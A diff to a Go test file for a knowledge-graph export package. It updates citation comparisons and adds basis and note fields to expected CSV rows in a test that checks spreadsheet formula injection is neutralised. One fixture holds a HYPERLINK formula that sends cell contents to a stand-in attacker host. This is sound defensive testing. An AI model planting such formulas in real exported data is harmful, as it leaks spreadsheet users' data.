@@ -170,14 +170,14 @@ func testExports(t *testing.T, s kg.Store) {
 		}
 		for _, n := range doc.Elements.Nodes {
 			e := entities[n.Data.ID]
-			if e == nil || n.Data.Label != e.Name || n.Data.Kind != e.Kind || !slices.Equal(n.Data.Citations, e.Citations) {
+			if e == nil || n.Data.Label != e.Name || n.Data.Kind != e.Kind || !kg.EqualCitations(n.Data.Citations, e.Citations) {
 				t.Errorf("JSON node %+v, want the store's %+v", n.Data, e)
 			}
 		}
 		ids := map[string]bool{}
 		for _, ed := range doc.Elements.Edges {
 			r := relations[ed.Data.Type+" "+ed.Data.Source+" "+ed.Data.Target]
-			if r == nil || ids[ed.Data.ID] || ed.Data.Label != r.Type || !slices.Equal(ed.Data.Citations, r.Citations) {
+			if r == nil || ids[ed.Data.ID] || ed.Data.Label != r.Type || !kg.EqualCitations(ed.Data.Citations, r.Citations) {
 				t.Errorf("JSON edge %+v is not a relation of the store with its quotes, or its id is taken", ed.Data)
 			}
 			ids[ed.Data.ID] = true
@@ -203,7 +203,8 @@ func testExports(t *testing.T, s kg.Store) {
 				t.Errorf("CSV row %q is not a relation of the store", row)
 				continue
 			}
-			want := []string{r.From, entities[r.From].Name, r.Type, r.To, entities[r.To].Name, r.Citations[0].Quote, r.Citations[0].Source}
+			c := r.Citations[0]
+			want := []string{r.From, entities[r.From].Name, r.Type, r.To, entities[r.To].Name, c.Quote, c.Source, string(c.Basis.Or()), c.Note}
 			if !slices.Equal(row, want) {
 				t.Errorf("CSV row = %q, want %q", row, want)
 			}
@@ -363,7 +364,8 @@ func TestExportCSVNeutralizesFormulas(t *testing.T) {
 				Citations: []kg.Citation{{Source: "source:hostile", Quote: "-2+3 was noted"}}},
 		},
 		Relations: []kg.Relation{{Type: kg.RelAttended, From: "person:at", To: "meeting:minus", Properties: map[string]any{"role": "MEMBER"},
-			Citations: []kg.Citation{{Source: "source:hostile", Quote: `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`}}}},
+			Citations: []kg.Citation{{Source: "source:hostile", Quote: `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`,
+				Basis: kg.BasisInferred, Note: "+1 for the minutes"}}}},
 	}
 	ms, err := memstore.Load(b)
 	if err != nil {
@@ -377,7 +379,7 @@ func TestExportCSVNeutralizesFormulas(t *testing.T) {
 		t.Fatalf("the CSV does not parse: %v", err)
 	}
 	want := []string{"person:at", "'@SUM(1+1)", kg.RelAttended, "meeting:minus", "'-2+3 meeting",
-		`'=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`, "source:hostile"}
+		`'=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`, "source:hostile", string(kg.BasisInferred), "'+1 for the minutes"}
 	if len(rows) != 2 || !slices.Equal(rows[1], want) {
 		t.Fatalf("CSV rows = %q, want the header and %q", rows, want)
 	}
